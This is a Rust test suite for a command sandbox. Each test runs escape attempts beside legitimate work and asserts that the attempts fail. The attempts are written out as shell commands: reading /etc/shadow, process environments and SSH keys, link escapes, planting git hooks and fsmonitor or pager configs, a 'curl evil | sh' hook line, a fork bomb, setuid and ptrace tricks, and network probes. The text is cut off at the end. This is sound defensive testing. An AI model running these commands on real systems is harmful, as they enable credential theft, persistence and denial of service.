//! The process sandbox's escape suite, run through the real `runner call
//! Bash`. Every case pairs an attempt that must fail with legitimate work
//! beside it that must succeed, so a sandbox that simply breaks everything
//! fails the suite too.

use e2e::*;
use std::path::{Path, PathBuf};

struct Sandbox {
    dir: tempfile::TempDir,
    ws: PathBuf,
    config: PathBuf,
}

/// A workspace outside /tmp-only setups, with a worker config that keeps
/// limits small enough to test.
fn sandbox() -> Sandbox {
    let dir = tempfile::tempdir().unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap().join("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(ws.join("README.md"), "# demo\n").unwrap();
    let config = dir.path().join("worker.toml");
    std::fs::write(
        &config,
        "[sandbox.limits]\nprocesses = 64\nmemory_mb = 512\ndefault_timeout_ms = 20000\noutput_bytes = 65536\n",
    )
    .unwrap();
    Sandbox { dir, ws, config }
}

impl Sandbox {
    fn bash_with(&self, input: serde_json::Value, env: &[(&str, &str)]) -> serde_json::Value {
        let v = e2e::call_bash(
            &self.dir.path().join("state"),
            &self.ws,
            &self.config,
            &input,
            env,
        );
        assert_eq!(v["status"], "ok", "{v}");
        v["output"].clone()
    }

    fn bash(&self, command: &str) -> serde_json::Value {
        self.bash_with(serde_json::json!({ "command": command }), &[])
    }
}

fn stdout(v: &serde_json::Value) -> &str {
    v["stdout"].as_str().unwrap()
}

fn assert_absent(p: &Path) {
    assert!(
        std::fs::symlink_metadata(p).is_err(),
        "{} must not exist",
        p.display()
    );
}

#[test]
fn writes_outside_the_workspace_fail_writes_inside_succeed() {
    let s = sandbox();
    let outside = s.dir.path().join("outside.txt");
    let host_tmp = PathBuf::from(format!("/tmp/runner-escape-{}", std::process::id()));
    let out = s.bash(&format!(
        "echo x > ../outside.txt; echo x > {}; echo x > /etc/runner-escape; echo x > /root/runner-escape; echo ok > inside.txt; cat inside.txt",
        host_tmp.display()
    ));
    assert_eq!(stdout(&out), "ok\n", "{out}");
    assert_absent(&outside);
    assert_absent(&host_tmp);
    assert_absent(Path::new("/etc/runner-escape"));
    assert_absent(Path::new("/root/runner-escape"));
    assert_eq!(
        std::fs::read_to_string(s.ws.join("inside.txt")).unwrap(),
        "ok\n"
    );
}

#[test]
fn symlink_and_hardlink_out_of_the_workspace_do_not_write_outside() {
    let s = sandbox();
    let outside_dir = s.dir.path().join("target");
    std::fs::create_dir(&outside_dir).unwrap();
    let victim = s.dir.path().join("victim.txt");
    std::fs::write(&victim, "original\n").unwrap();
    std::os::unix::fs::symlink(&outside_dir, s.ws.join("link")).unwrap();
    std::fs::hard_link(&victim, s.ws.join("hardlink.txt")).unwrap();
    let out = s.bash("echo pwned > link/pwned; echo pwned >> hardlink.txt; ln /etc/passwd pw; ln -s /etc/shadow sh && cat sh; echo ok");
    assert!(stdout(&out).ends_with("ok\n"), "{out}");
    assert_absent(&outside_dir.join("pwned"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
    assert_absent(&s.ws.join("pw"));
    assert!(!stdout(&out).contains("root:"), "{out}");
}

#[test]
fn protected_paths_are_read_only_even_for_an_allowed_command() {
    let s = sandbox();
    let out = s.bash(
        "echo evil >> .git/hooks/pre-commit; echo evil >> .git/config; echo evil >> .bashrc; \
         rm -rf .git/hooks; mv .git/hooks hooks-gone; ln -sfn /tmp .git/hooks; echo ok > notes.txt; cat notes.txt",
    );
    assert_eq!(stdout(&out), "ok\n", "{out}");
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert!(std::fs::symlink_metadata(s.ws.join(".git/hooks"))
        .unwrap()
        .is_dir());
}

#[test]
fn fifos_and_device_nodes_cannot_be_made() {
    let s = sandbox();
    let out = s.bash("mkfifo f1; mknod d1 c 1 3; mknod /tmp/d2 c 1 3; touch regular; ls");
    assert_absent(&s.ws.join("f1"));
    assert_absent(&s.ws.join("d1"));
    assert!(stdout(&out).contains("regular"), "{out}");
}

#[test]
fn secrets_of_the_host_and_the_runner_are_unreadable() {
    let s = sandbox();
    let secret = "runner-test-secret-3f9a";
    let out = s.bash_with(
        serde_json::json!({"command": "env; cat /proc/1/environ | tr '\\0' '\\n'; ls /root/.ssh; cat /etc/shadow; ls ../state; head -c 20 /dev/vda; cat README.md"}),
        &[("RUNNER_TEST_SECRET", secret)],
    );
    let all = format!("{}{}", out["stdout"], out["stderr"]);
    assert!(
        !all.contains(secret),
        "the runner's environment leaked: {all}"
    );
    assert!(!all.contains("root:"), "/etc/shadow was read: {all}");
    assert!(
        !all.contains("audit.jsonl"),
        "the runner's state directory was listed: {all}"
    );
    assert!(stdout(&out).contains("# demo"), "{out}");
    assert!(
        stdout(&out).contains("PATH=/usr/local/bin:/usr/bin:/bin"),
        "{out}"
    );
}

#[test]
fn host_processes_are_invisible_and_unreachable() {
    let s = sandbox();
    let me = std::process::id();
    let out = s.bash(&format!(
        "ls /proc | grep -E '^[0-9]+$' | wc -l; kill -0 {me} && echo KILLED; kill -9 1 && echo KILLED1; echo done"
    ));
    let lines: Vec<&str> = stdout(&out).lines().collect();
    let visible: usize = lines[0].trim().parse().unwrap();
    assert!(
        visible < 10,
        "only the sandbox's own processes are visible: {out}"
    );
    assert!(!stdout(&out).contains("KILLED"), "{out}");
    assert_eq!(lines.last(), Some(&"done"));
}

#[test]
fn privileges_are_gone() {
    let s = sandbox();
    let out = s.bash(
        "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd|CapAmb):' /proc/self/status; \
         mount -t tmpfs none /mnt 2>&1 && echo MOUNTED; \
         unshare -U true 2>&1 && echo UNSHARED; \
         sleep 30 & pid=$!; perl -e 'my $r = syscall(101, 16, $ARGV[0], 0, 0); print \"ptrace=$r $!\\n\"' $pid; kill $pid; \
         /usr/bin/passwd -S root 2>&1 | sed 's/^/passwd: /'; \
         cp /bin/bash ./sbash && chmod u+s ./sbash && ./sbash -p -c 'grep CapEff /proc/self/status' | sed 's/^/suid-/'",
    );
    let o = stdout(&out);
    assert!(o.contains("NoNewPrivs:\t1"), "{out}");
    for cap in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
        assert!(
            o.contains(&format!("{cap}:\t0000000000000000")),
            "{cap}: {out}"
        );
    }
    assert!(!o.contains("MOUNTED") && !o.contains("UNSHARED"), "{out}");
    assert!(o.contains("ptrace=-1"), "{out}");
    // The host's setuid-root passwd gains nothing: it cannot read the shadow
    // file (its ageing fields stay unknown: "never -1 -1 -1 -1").
    let passwd = o.lines().find(|l| l.starts_with("passwd: ")).unwrap_or("");
    assert!(
        passwd.contains("never -1 -1 -1 -1")
            || passwd.contains("may not")
            || passwd.contains("No such file"),
        "{out}"
    );
    // A setuid binary made inside gains no capability (no_new_privs).
    assert!(o.contains("suid-CapEff:\t0000000000000000"), "{out}");
}

#[test]
fn limits_stop_runaway_commands_and_the_runner_goes_on() {
    let s = sandbox();
    let started = std::time::Instant::now();
    let out = s.bash_with(
        serde_json::json!({"command": "sleep 100", "timeout_ms": 1000}),
        &[],
    );
    assert_eq!(out["killed_by"], "timeout", "{out}");
    assert!(out["duration_ms"].as_u64().unwrap() < 3000, "{out}");
    assert!(started.elapsed() < std::time::Duration::from_secs(10));

    let bomb = s.bash_with(serde_json::json!({"command": "b() { b | b & }; b; sleep 2; echo survived", "timeout_ms": 8000}), &[]);
    assert!(bomb["duration_ms"].as_u64().unwrap() < 9000, "{bomb}");

    let hog = s.bash("x=$(head -c 2000000000 /dev/zero | tr '\\0' a); echo ${#x}");
    assert_ne!(stdout(&hog).trim(), "2000000000", "{hog}");

    let flood = s.bash("yes runner | head -c 5000000; echo");
    assert_eq!(flood["truncated"], true);
    assert_eq!(stdout(&flood).len(), 65536);

    let after = s.bash("echo still-serving");
    assert_eq!(stdout(&after), "still-serving\n");
}

#[test]
fn background_children_die_with_the_command() {
    let s = sandbox();
    let marker = format!("{}", 40_000 + std::process::id() % 20_000);
    let out = s.bash(&format!("(sleep {marker} &); nohup sleep {marker} >/dev/null 2>&1 & setsid sleep {marker} & echo started"));
    assert_eq!(stdout(&out), "started\n");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let ps = std::process::Command::new("pgrep")
        .args(["-f", &format!("sleep {marker}")])
        .output()
        .unwrap();
    assert!(
        ps.stdout.is_empty(),
        "left running: {}",
        String::from_utf8_lossy(&ps.stdout)
    );
}

#[test]
fn network_is_off_in_mode_none() {
    let s = sandbox();
    let out = s.bash(
        "curl -sS -m 3 http://example.com >/dev/null 2>&1 && echo CURL; \
         curl -sS -m 3 http://1.1.1.1 >/dev/null 2>&1 && echo CURLIP; \
         (echo > /dev/tcp/1.1.1.1/80) 2>/dev/null && echo DEVTCP; \
         (echo > /dev/tcp/127.0.0.1/22) 2>/dev/null && echo LOOPBACK; \
         getent hosts example.com && echo DNS; \
         perl -MIO::Socket::INET -e 'exit(IO::Socket::INET->new(PeerAddr => \"1.1.1.1:443\", Timeout => 2) ? 0 : 1)' && echo PERL; \
         ping -c1 -W1 1.1.1.1 >/dev/null 2>&1 && echo PING; \
         echo checked",
    );
    assert_eq!(stdout(&out), "checked\n", "{out}");
}

#[test]
fn allow_everything_policy_still_keeps_writes_inside() {
    let s = sandbox();
    let pol = policy_dir(
        s.dir.path(),
        "allow-all",
        &[(
            "p.rego",
            "package runner\nimport rego.v1\ndecision := {\"result\": \"allow\", \"reasons\": [\"everything goes\"], \"confine\": {\"readable_roots\": [\"/\"], \"writable_roots\": [\"/\"], \"network\": \"none\"}}\n",
        )],
    );
    let out = std::process::Command::new(bin("runner"))
        .args(["call", "--workspace", s.ws.to_str().unwrap(), "--policy", pol.to_str().unwrap(), "Bash"])
        .arg(serde_json::json!({"command": "echo x > /etc/allow-all-escape; echo x > ../escaped; echo ok > inside; cat inside"}).to_string())
        .env("RUNNER_STATE_DIR", s.dir.path().join("state"))
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decisions"][0]["result"], "allow");
    assert_eq!(v["output"]["stdout"], "ok\n", "{v}");
    assert_absent(Path::new("/etc/allow-all-escape"));
    assert_absent(&s.dir.path().join("escaped"));
}

#[test]
fn a_real_build_and_test_run_works_offline() {
    let s = sandbox();
    std::fs::remove_dir_all(s.ws.join(".git")).unwrap();
    let out = s.bash(
        "set -e; git init -q .; printf 'test:\\n\\ttest \"$$(cat src.txt)\" = hello\\n' > Makefile; echo hello > src.txt; \
         make -s test; git add -A; git -c user.name=agent -c user.email=agent@example.invalid commit -qm 'first'; git log --oneline | wc -l",
    );
    assert_eq!(out["exit_code"], 0, "{out}");
    assert_eq!(stdout(&out).trim(), "1", "{out}");
}

#[test]
fn denied_command_never_starts() {
    let s = sandbox();
    let out = std::process::Command::new(bin("runner"))
        .args([
            "call",
            "--workspace",
            s.ws.to_str().unwrap(),
            "Bash",
            r#"{"command": "touch ran", "cwd": "../"}"#,
        ])
        .env("RUNNER_STATE_DIR", s.dir.path().join("state"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert_absent(&s.dir.path().join("ran"));
    assert_absent(&s.ws.join("ran"));
}

#[test]
fn unreachable_workspace_is_a_clear_error_not_a_run() {
    let dir = tempfile::tempdir_in("/var/tmp").unwrap();
    let ws = std::fs::canonicalize(dir.path()).unwrap().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    // A 0700 parent: the sandbox user cannot pass through it (when we are root).
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o700),
    )
    .unwrap();
    if unsafe_geteuid_is_root() {
        let out = std::process::Command::new(bin("runner"))
            .args([
                "call",
                "--workspace",
                ws.to_str().unwrap(),
                "Bash",
                r#"{"command": "touch ran"}"#,
            ])
            .env("RUNNER_STATE_DIR", dir.path().join("state"))
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(4));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            v["output"]["error"].as_str().unwrap().contains("chmod o+x"),
            "{v}"
        );
        assert_absent(&ws.join("ran"));
    }
}

fn unsafe_geteuid_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .map(|s| {
            s.lines()
                .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

#[test]
fn protected_paths_created_by_a_command_do_not_survive_it() {
    let s = sandbox();
    std::fs::remove_dir_all(s.ws.join(".git/hooks")).unwrap();
    std::fs::remove_file(s.ws.join(".bashrc")).unwrap();
    let out = s.bash("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout && echo 'evil' > .bashrc && echo ok > kept.txt && echo done");
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_absent(&s.ws.join(".git/hooks"));
    assert_absent(&s.ws.join(".bashrc"));
    assert!(s.ws.join("kept.txt").exists());
    let removed: Vec<String> = serde_json::from_value(out["removed_protected"].clone()).unwrap();
    assert!(removed.iter().any(|p| p.ends_with(".git/hooks")), "{out}");
    assert!(removed.iter().any(|p| p.ends_with(".bashrc")), "{out}");
}

#[test]
fn missing_sandbox_helper_is_a_clear_error_and_nothing_runs() {
    let s = sandbox();
    let lonely = s.dir.path().join("bin");
    std::fs::create_dir(&lonely).unwrap();
    std::fs::copy(bin("runner"), lonely.join("runner")).unwrap();
    let out = std::process::Command::new(lonely.join("runner"))
        .args([
            "call",
            "--workspace",
            s.ws.to_str().unwrap(),
            "Bash",
            r#"{"command": "touch ran"}"#,
        ])
        .env("RUNNER_STATE_DIR", s.dir.path().join("state"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["output"]["error"]
            .as_str()
            .unwrap()
            .contains("install `runner-sandbox`"),
        "{v}"
    );
    assert_absent(&s.ws.join("ran"));
}

/// Landlock on its own: a directory outside the workspace that file
/// permissions would let anyone write, and a file anyone may read, stay out
/// of reach — only Landlock stands in the way.
#[test]
fn landlock_confines_where_file_permissions_would_not() {
    use std::os::unix::fs::PermissionsExt;
    let s = sandbox();
    let open_dir = PathBuf::from(format!("/var/tmp/runner-landlock-{}", std::process::id()));
    std::fs::create_dir_all(&open_dir).unwrap();
    std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::write(open_dir.join("public.txt"), "readable-by-all\n").unwrap();
    std::fs::set_permissions(
        open_dir.join("public.txt"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    let out = s.bash(&format!(
        "echo x > {d}/written; cat {d}/public.txt; echo y >> {d}/public.txt; echo ok > inside; cat inside",
        d = open_dir.display()
    ));
    let written = open_dir.join("written").exists();
    let public = std::fs::read_to_string(open_dir.join("public.txt")).unwrap();
    let _ = std::fs::remove_dir_all(&open_dir);
    assert_eq!(stdout(&out), "ok\n", "{out}");
    assert!(!written, "{out}");
    assert_eq!(public, "readable-by-all\n");
}

/// The seccomp filter on its own: calls an unprivileged process could
/// otherwise make.
#[test]
fn seccomp_refuses_the_listed_calls_and_socket_families() {
    let s = sandbox();
    let out = s.bash(
        "perl -e '
           use Socket;
           for my $f ([16, \"netlink\"], [40, \"vsock\"]) {
             print socket(my $s, $f->[0], SOCK_DGRAM, 0) ? \"$f->[1]=open\\n\" : \"$f->[1]=\" . ($!+0) . \"\\n\";
           }
           print socket(my $u, AF_UNIX, SOCK_STREAM, 0) ? \"unix=open\\n\" : \"unix=failed\\n\";
           print socket(my $i, AF_INET, SOCK_STREAM, 0) ? \"inet=open\\n\" : \"inet=failed\\n\";
           for my $c ([425, \"io_uring_setup\", 8, 0], [250, \"keyctl\", 0, -3], [321, \"bpf\", 0, 0], [298, \"perf_event_open\", 0, 0], [272, \"unshare\", 0x10000000, 0]) {
             my $r = syscall($c->[0], $c->[2], $c->[3], 0, 0, 0);
             print \"$c->[1]=\" . ($r == -1 ? ($!+0) : \"ok\") . \"\\n\";
           }'",
    );
    let o = stdout(&out);
    for line in [
        "netlink=1",
        "io_uring_setup=1",
        "keyctl=1",
        "bpf=1",
        "perf_event_open=1",
        "unshare=1",
    ] {
        assert!(
            o.lines().any(|l| l == line),
            "{line} (EPERM) expected: {out}"
        );
    }
    assert!(!o.contains("vsock=open"), "{out}");
    assert!(o.contains("unix=open") && o.contains("inet=open"), "{out}");
}

/// The rlimits on their own: what the command sees is what the config says.
#[test]
fn rlimits_are_those_of_the_config() {
    let s = sandbox();
    let out = s.bash("ulimit -u; ulimit -v; ulimit -c; ulimit -n");
    assert_eq!(
        stdout(&out),
        format!("64\n{}\n0\n1024\n", 512 * 1024),
        "{out}"
    );
}

/// The sandbox dies with the runner: kill -9 the runner mid-command and
/// nothing of the command is left.
#[test]
fn sandbox_dies_with_the_runner() {
    let s = sandbox();
    let marker = format!("{}", 20_000 + std::process::id() % 20_000);
    let mut child = std::process::Command::new(bin("runner"))
        .args([
            "call",
            "--workspace",
            s.ws.to_str().unwrap(),
            "--config",
            s.config.to_str().unwrap(),
            "Bash",
        ])
        .arg(serde_json::json!({ "command": format!("sleep {marker}.5; echo never") }).to_string())
        .env("RUNNER_STATE_DIR", s.dir.path().join("state"))
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Anchored, so only the command's own `sleep` matches (the runner's and
    // the helper's command lines contain the text too).
    let pattern = format!("^sleep {marker}\\.5$");
    let running = || {
        let ps = std::process::Command::new("pgrep")
            .args(["-f", &pattern])
            .output()
            .unwrap();
        !ps.stdout.is_empty()
    };
    let start = std::time::Instant::now();
    while !running() {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(10),
            "the command never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.kill().unwrap();
    let _ = child.wait();
    let start = std::time::Instant::now();
    while running() {
        assert!(
            start.elapsed() < std::time::Duration::from_secs(5),
            "{pattern} outlived the runner"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

// ---- git state, host sockets, hidden paths, workspace size ----

impl Sandbox {
    /// The whole `runner call` answer (status, output, decisions), whatever
    /// the status.
    fn call_raw(&self, tool: &str, input: serde_json::Value) -> serde_json::Value {
        let out = std::process::Command::new(bin("runner"))
            .args([
                "call",
                "--workspace",
                self.ws.to_str().unwrap(),
                "--config",
                self.config.to_str().unwrap(),
            ])
            .arg(tool)
            .arg(input.to_string())
            .env("RUNNER_STATE_DIR", self.dir.path().join("state"))
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "not JSON ({e}): {}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        })
    }

    /// A worker config with a 4 MiB workspace limit.
    fn small_workspace_limit(&self) {
        std::fs::write(
            &self.config,
            "[sandbox.limits]\nworkspace_mb = 4\nmemory_mb = 512\n",
        )
        .unwrap();
    }

    /// A real repository in the workspace, made on the host by the test.
    fn real_repo(&self) {
        std::fs::remove_dir_all(self.ws.join(".git")).unwrap();
        let git = |args: &[&str]| {
            let s = std::process::Command::new("git")
                .args(args)
                .current_dir(&self.ws)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", self.dir.path())
                .status()
                .unwrap();
            assert!(s.success(), "git {args:?}");
        };
        git(&["init", "-q", "."]);
        git(&[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "init",
        ]);
    }

    /// Runs the host's git in the workspace the way an operator would, and
    /// returns whether a marker the attack would create appeared.
    fn host_git_runs_nothing(&self, marker: &Path) {
        let _ = std::process::Command::new("git")
            .args(["status", "--short"])
            .current_dir(&self.ws)
            .env("HOME", self.dir.path())
            .output()
            .unwrap();
        assert_absent(marker);
    }
}

/// Class 2: a command plants `.git -> <host dir>` where the protected paths
/// did not exist; the runner's clean-up afterwards must remove the symlink,
/// never what it points at.
#[test]
fn a_planted_git_symlink_never_makes_the_runner_delete_host_files() {
    let s = sandbox();
    std::fs::remove_dir_all(s.ws.join(".git")).unwrap();
    let host = s.dir.path().join("host-dir");
    std::fs::create_dir_all(host.join("hooks")).unwrap();
    std::fs::write(host.join("hooks/keep"), "keep").unwrap();
    std::fs::write(host.join("config"), "keep").unwrap();
    let out = s.bash(&format!("ln -s {} .git && echo planted", host.display()));
    assert_eq!(stdout(&out), "planted\n", "{out}");
    assert_eq!(
        std::fs::read_to_string(host.join("config")).unwrap(),
        "keep"
    );
    assert_eq!(
        std::fs::read_to_string(host.join("hooks/keep")).unwrap(),
        "keep"
    );
    assert_absent(&s.ws.join(".git"));
    // Ordinary work beside it still succeeds.
    assert_eq!(stdout(&s.bash("cat README.md")), "# demo\n");
}

/// Class 3: `mv .git .g && cp -r .g .git` used to leave a writable copy of
/// hooks and config in place. Now git's state is put back as it was, and
/// the host's `git status` afterwards runs nothing of the command's.
#[test]
fn a_copied_git_dir_cannot_plant_hooks_or_fsmonitor() {
    let s = sandbox();
    s.real_repo();
    let config = std::fs::read_to_string(s.ws.join(".git/config")).unwrap();
    let marker = s.dir.path().join("fsmonitor-ran");
    let out = s.bash(&format!(
        "mv .git .g && cp -r .g .git && printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && \
         printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> .git/config && echo done",
        m = marker.display()
    ));
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".git/config")).unwrap(),
        config
    );
    assert_absent(&s.ws.join(".git/hooks/pre-commit"));
    let changed = out["restored_protected"].to_string() + &out["removed_protected"].to_string();
    assert!(changed.contains(".git/config"), "{out}");
    s.host_git_runs_nothing(&marker);
}

/// Class 3: a `.git` *file* (`gitdir:`) or a nested repository planted by
/// a command is removed, with the git dir it names inside the workspace.
#[test]
fn a_gitdir_file_or_a_nested_repository_does_not_survive_the_command() {
    let s = sandbox();
    s.real_repo();
    let marker = s.dir.path().join("nested-ran");
    let out = s.bash(&format!(
        "mkdir -p sub evil nested && printf 'gitdir: ../evil\\n' > sub/.git && \
         printf '[core]\\n\\tfsmonitor = touch {m}\\n' > evil/config && mkdir -p evil/hooks && \
         git init -q nested && printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> nested/.git/config && echo done",
        m = marker.display()
    ));
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_absent(&s.ws.join("sub/.git"));
    assert_absent(&s.ws.join("evil/config"));
    assert_absent(&s.ws.join("nested/.git/config"));
    assert_absent(&s.ws.join("nested/.git/hooks"));
    for dir in ["sub", "nested"] {
        let _ = std::process::Command::new("git")
            .args(["status"])
            .current_dir(s.ws.join(dir))
            .env("HOME", s.dir.path())
            .output()
            .unwrap();
    }
    assert_absent(&marker);
}

/// Class 3, the legitimate side: committing in the workspace works, and
/// git's own state (objects, refs, index) is the command's to write.
#[test]
fn git_add_and_commit_still_work_in_a_protected_repository() {
    let s = sandbox();
    s.real_repo();
    let out = s.bash(
        "echo change > file.txt && git add file.txt && git -c user.name=agent -c user.email=a@example.invalid commit -qm work && git log --oneline | wc -l",
    );
    assert_eq!(stdout(&out).trim(), "2", "{out}");
    assert!(out.get("restored_protected").is_none(), "{out}");
}

/// Class 4: a 0777 unix socket of a host daemon under /run is not even
/// there inside the sandbox; a socket the command makes itself works.
#[test]
fn host_unix_sockets_do_not_exist_inside_but_the_commands_own_do() {
    let s = sandbox();
    let path = PathBuf::from(format!("/run/runner-escape-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = s.bash(&format!(
        "test -e {p} && echo VISIBLE; ls /run /var/run 2>/dev/null | head -3; \
         curl -s --max-time 2 --unix-socket {p} http://x/ && echo REACHED; \
         perl -MIO::Socket::UNIX -e '$s=IO::Socket::UNIX->new(Type=>SOCK_STREAM(),Local=>\"own.sock\",Listen=>1) or die \"listen: $!\"; if(!fork){{$c=IO::Socket::UNIX->new(Type=>SOCK_STREAM(),Peer=>\"own.sock\") or die \"connect: $!\"; print $c \"own-socket-ok\\n\"; exit 0}} $a=$s->accept; print scalar <$a>;'",
        p = path.display()
    ));
    let reached = listener.accept().is_ok();
    let _ = std::fs::remove_file(&path);
    assert!(!reached, "the host socket was connected to: {out}");
    assert!(!stdout(&out).contains("VISIBLE"), "{out}");
    assert!(!stdout(&out).contains("REACHED"), "{out}");
    assert!(stdout(&out).contains("own-socket-ok"), "{out}");
}

/// Class 5: hidden paths are hidden from the shell too — masked inside the
/// sandbox, so `cat .env` and `ln .env x` get nothing of the secret.
#[test]
fn hidden_files_are_masked_from_shell_commands() {
    let s = sandbox();
    std::fs::write(s.ws.join(".env"), "API_KEY=shell-secret\n").unwrap();
    std::fs::create_dir_all(s.ws.join("deploy/.ssh")).unwrap();
    std::fs::write(s.ws.join("deploy/.ssh/id_rsa"), "shell-secret-key\n").unwrap();
    std::fs::write(s.ws.join("server.pem"), "shell-secret-pem\n").unwrap();
    let out = s.bash(
        "cat .env; cat deploy/.ssh/id_rsa; ls deploy/.ssh; cat server.pem; ln .env x 2>/dev/null; cat x 2>/dev/null; cp .env y 2>/dev/null; cat y 2>/dev/null; cat README.md",
    );
    assert!(!stdout(&out).contains("shell-secret"), "{out}");
    assert!(stdout(&out).contains("# demo"), "{out}");
    // Masking changes nothing on disk.
    assert_eq!(
        std::fs::read_to_string(s.ws.join(".env")).unwrap(),
        "API_KEY=shell-secret\n"
    );
    assert!(std::fs::read_to_string(s.ws.join("x")).map_or(true, |c| !c.contains("shell-secret")));
}

/// Class 7: the workspace cannot grow past its limit: the call that made it
/// too big fails and says why; smaller work is fine.
#[test]
fn a_command_that_overfills_the_workspace_fails_with_the_reason() {
    let s = sandbox();
    s.small_workspace_limit();
    let ok = s.bash("head -c 100000 /dev/zero > small && echo ok");
    assert_eq!(stdout(&ok), "ok\n", "{ok}");
    let v = s.call_raw(
        "Bash",
        serde_json::json!({"command": "head -c 6000000 /dev/urandom > big; echo wrote"}),
    );
    assert_eq!(v["status"], "error", "{v}");
    let e = v["output"]["error"].as_str().unwrap();
    assert!(e.contains("sandbox.limits.workspace_mb"), "{e}");
    // Over the limit, nothing more runs in the workspace.
    let v = s.call_raw("Bash", serde_json::json!({"command": "touch ran"}));
    assert_eq!(v["status"], "error", "{v}");
    assert_absent(&s.ws.join("ran"));
}

/// Class 7: a command that keeps writing is stopped while it runs, not only
/// judged when it ends.
#[test]
fn a_command_that_keeps_filling_the_workspace_is_stopped_while_it_runs() {
    let s = sandbox();
    s.small_workspace_limit();
    let started = std::time::Instant::now();
    let v = s.call_raw(
        "Bash",
        serde_json::json!({"command": "head -c 8000000 /dev/zero > big; sleep 20; echo survived", "timeout_ms": 30000}),
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{v}"
    );
    assert_eq!(v["status"], "error", "{v}");
    assert!(!v["output"].to_string().contains("survived"), "{v}");
}

/// Class 3: an implicit bare repository (HEAD, objects/, refs/ and a config
/// with a pager) left anywhere — the root included — after the real `.git`
/// is emptied: its config and hooks do not survive, so the host's git finds
/// nothing to run.
#[test]
fn an_implicit_bare_repository_does_not_survive_the_command() {
    let s = sandbox();
    s.real_repo();
    let out = s.bash(
        "cp -r .git/objects .git/refs .git/HEAD . ; rm -rf .git/objects .git/refs .git/HEAD 2>/dev/null; \
         printf '[core]\\n\\tpager = touch /tmp/pwned-pager\\n' > config; mkdir -p hooks sub/objects sub/refs; \
         printf 'ref: refs/heads/main\\n' > sub/HEAD; printf '[core]\\n\\tpager = touch /tmp/pwned\\n' > sub/config; echo done",
    );
    assert_eq!(stdout(&out), "done\n", "{out}");
    assert_absent(&s.ws.join("config"));
    assert_absent(&s.ws.join("sub/config"));
    assert_absent(&s.ws.join("hooks"));
}

/// Class 5: secrets inside git's own directory are hidden from the shell
/// too.
#[test]
fn hidden_files_inside_a_git_dir_are_masked_too() {
    let s = sandbox();
    std::fs::write(s.ws.join(".git/.env"), "SECRET=in-git\n").unwrap();
    std::fs::write(s.ws.join(".git/deploy.key"), "in-git-key\n").unwrap();
    let out = s.bash("cat .git/.env .git/deploy.key; cat README.md");
    assert!(!stdout(&out).contains("in-git"), "{out}");
    assert!(stdout(&out).contains("# demo"), "{out}");
}

/// A set-user-id program made in the workspace keeps no set-id bit on the
/// host (anyone could otherwise become the sandbox user), and none works
/// inside (the workspace is mounted nosuid).
#[test]
fn set_id_bits_do_not_survive_a_command() {
    let s = sandbox();
    let out = s.bash(
        "cp /bin/true s && chmod 6755 s && grep -q 'nosuid' /proc/self/mountinfo && echo made",
    );
    assert_eq!(stdout(&out), "made\n", "{out}");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(s.ws.join("s"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o6000, 0, "{mode:o}");
}

/// Class 8: settings that would void the confinement are refused at load,
/// naming the key; nothing runs.
#[test]
fn settings_that_void_the_confinement_are_refused_naming_the_key() {
    let s = sandbox();
    for (cfg, key) in [
